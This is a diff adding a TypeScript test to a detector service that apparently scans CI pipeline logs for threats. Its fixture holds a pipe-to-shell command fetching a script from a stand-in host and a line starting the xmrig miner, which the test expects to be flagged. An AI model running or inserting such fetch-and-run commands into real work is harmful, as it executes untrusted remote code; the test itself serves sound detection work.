@@ -40,4 +40,19 @@ describe('detector service', () => {
     await detector.close();
     await bus.close();
   });
+
+  it('judges log batches from the logs topic', async () => {
+    const bus = createInMemoryBus();
+    const topics = topicNames('t.');
+    const findings: IncomingMessage[] = [];
+    await bus.subscribe({ topic: topics.findings, group: 'test', deadLetterTopic: topics.deadLetter, handler: async (m) => void findings.push(m) });
+    const detector = await startDetector({ bus, topics, store: createInMemoryBaselineStore(), settings: DEFAULT_SETTINGS, logger: silentLogger() });
+    const batch = { schema: 'pipewatch.log/v1', event_id: 'l1', source: 'agent', pipeline: { id: 'p' }, run: { id: 'r' }, lines: [{ text: 'curl -sL https://x.example/m.sh | sh' }, { text: 'starting xmrig 6.21' }] };
+    await bus.publish(topics.logs, [{ key: 'p', value: JSON.stringify(batch) }]);
+    await waitFor(() => findings.length >= 2);
+    assert.deepEqual(findings.map((m) => Finding.parse(JSON.parse(m.value)).rule.id).sort(), ['log.miner', 'log.pipe_to_shell']);
+    assert.equal(detector.counters.logBatches, 1);
+    await detector.close();
+    await bus.close();
+  });
 });
